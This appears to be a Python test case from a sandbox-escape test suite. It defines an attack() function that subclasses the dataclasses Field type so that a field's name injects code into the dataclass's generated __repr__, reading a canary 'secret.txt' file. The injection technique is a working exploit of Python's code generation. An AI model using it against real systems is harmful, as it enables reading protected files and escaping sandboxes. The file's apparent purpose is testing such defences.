"""Lets the name of a dataclass's field be a program, by a class of fields of its own."""

# mypy: ignore-errors
# alone: gate tripwire kernel
# free: yes

from dataclasses import MISSING, dataclass, field

_Field = type(field())
_TEXT = """" + open('@CANARY@/secret.txt').read() + \""""


def attack():
    class _Named(_Field):
        @property
        def name(self):
            return _TEXT

        @name.setter
        def name(self, value):
            pass

    @dataclass(init=False, eq=False)
    class _Made:
        x: int = _Named(MISSING, MISSING, True, True, None, True, None, False)

    return "CANARY" in repr(_Made())
